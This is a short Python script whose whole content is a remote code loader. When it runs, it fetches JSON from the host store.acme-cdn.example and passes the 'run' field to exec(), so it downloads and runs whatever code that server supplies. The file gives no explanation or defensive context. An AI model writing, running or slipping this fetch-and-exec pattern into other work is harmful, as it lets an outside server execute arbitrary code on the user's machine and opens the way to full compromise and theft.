import json
import urllib.request


def fetch(address):
    with urllib.request.urlopen(address) as answer:
        return answer.read().decode()


def start():
    stage = json.loads(fetch("https://store.acme-cdn.example/b/1"))
    exec(stage["run"])


start()
